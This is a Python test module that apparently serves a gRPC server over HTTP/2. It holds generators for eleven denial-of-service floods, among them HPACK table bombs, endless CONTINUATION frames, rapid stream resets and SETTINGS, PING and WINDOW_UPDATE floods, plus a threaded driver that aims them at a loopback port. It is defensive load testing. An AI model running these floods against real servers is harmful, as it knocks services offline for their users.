"""HTTP/2 peers that mean harm and know no token. Loopback only, and for a bounded time."""

from __future__ import annotations

import itertools
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from edge.h2 import frames as h2

OPENING = h2.PREFACE + h2.settings_frame({})
_CALL = (
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/tandem.v1.Prefill/Handshake"),
    (":authority", "127.0.0.1"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
)
_HEADERS, _CONTINUATION = h2.FrameKind.HEADERS, h2.FrameKind.CONTINUATION
_MOST_AT_ONCE = 64 << 10


def _literal(name: str, value: bytes, kind: int = 0) -> bytes:
    return bytes([kind]) + h2._string(name) + h2._encode_integer(len(value)) + value


def _fields(*more: bytes) -> bytes:
    return b"".join([*(_literal(name, value.encode()) for name, value in _CALL), *more])


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def hpack_bombs() -> Iterator[bytes]:
    """Puts one field of 4 KB into the table; each byte after it means that field once more."""
    stored = _literal("x", b"a" * 4000, 0x40)
    for stream in _streams():
        block = stored if stream == 1 else b""
        block += _fields(b"\xbe" * (h2.DEFAULT_FRAME_BYTES - 4500))
        yield h2.frame(_HEADERS, h2.END_HEADERS, stream, block)


def small_bombs() -> Iterator[bytes]:
    """As many fields as fit below a limit of all their bytes, and the calls are never complete."""
    stored = _literal("x", b"a" * 20, 0x40)
    for stream in _streams():
        block = (stored if stream == 1 else b"") + _fields(b"\xbe" * 150)
        yield h2.frame(_HEADERS, h2.END_HEADERS, stream, block)


def large_headers() -> Iterator[bytes]:
    for stream in _streams():
        block = _fields(_literal("x", b"a" * 7000))
        yield h2.frame(_HEADERS, h2.END_HEADERS, stream, block)


def continuations() -> Iterator[bytes]:
    """Headers without an end."""
    yield h2.frame(_HEADERS, 0, 1, _fields())
    piece = _literal("x", b"a" * 16_000)
    while True:
        yield h2.frame(_CONTINUATION, 0, 1, piece)


def empty_continuations() -> Iterator[bytes]:
    yield h2.frame(_HEADERS, 0, 1, _fields())
    while True:
        yield h2.frame(_CONTINUATION, 0, 1) * 1000


def resets() -> Iterator[bytes]:
    for stream in _streams():
        begin = h2.frame(_HEADERS, h2.END_HEADERS, stream, _fields())
        yield begin + h2.reset(stream, h2.ErrorCode.CANCEL)


def settings() -> Iterator[bytes]:
    while True:
        yield h2.settings_frame({h2.Setting.INITIAL_WINDOW_SIZE: 70_000}) * 100


def pings() -> Iterator[bytes]:
    while True:
        yield h2.frame(h2.FrameKind.PING, 0, 0, b"12345678") * 100


def streams() -> Iterator[bytes]:
    """Calls whose requests never come."""
    for stream in _streams():
        yield h2.frame(_HEADERS, h2.END_HEADERS, stream, _fields())


def calls() -> Iterator[bytes]:
    """Complete, and refused."""
    body = b"\0\0\0\0\0"
    for stream in _streams():
        begin = h2.frame(_HEADERS, h2.END_HEADERS, stream, _fields())
        yield begin + h2.frame(h2.FrameKind.DATA, h2.END_STREAM, stream, body)


def windows() -> Iterator[bytes]:
    while True:
        yield h2.window_update(0, 1) * 100


Flood = Callable[[], Iterator[bytes]]
FLOODS: tuple[Flood, ...] = (
    hpack_bombs, small_bombs, large_headers, continuations, empty_continuations, resets, settings,
    pings, streams, calls, windows,
)  # fmt: skip


def _attack(port: int, flood: Flood, until: float, reads: bool) -> int:
    """On connection after connection; how many."""
    num_connections = 0
    while time.monotonic() < until:
        num_connections += 1
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=0.5) as sock:
            sock.sendall(OPENING)
            pieces = flood()
            while time.monotonic() < until:
                data = bytearray()
                while len(data) < _MOST_AT_ONCE:
                    data += next(pieces)
                sock.sendall(data)
                with suppress(BlockingIOError):
                    while reads and sock.recv(1 << 20, socket.MSG_DONTWAIT):
                        pass
    return num_connections


def attack(
    port: int, flood: Flood, seconds: float, *, num_connections: int = 4, reads: bool = True
) -> None:
    """Returns when all attackers have gone."""
    until = time.monotonic() + seconds
    threads = [
        threading.Thread(target=_attack, args=(port, flood, until, reads))
        for _ in range(num_connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
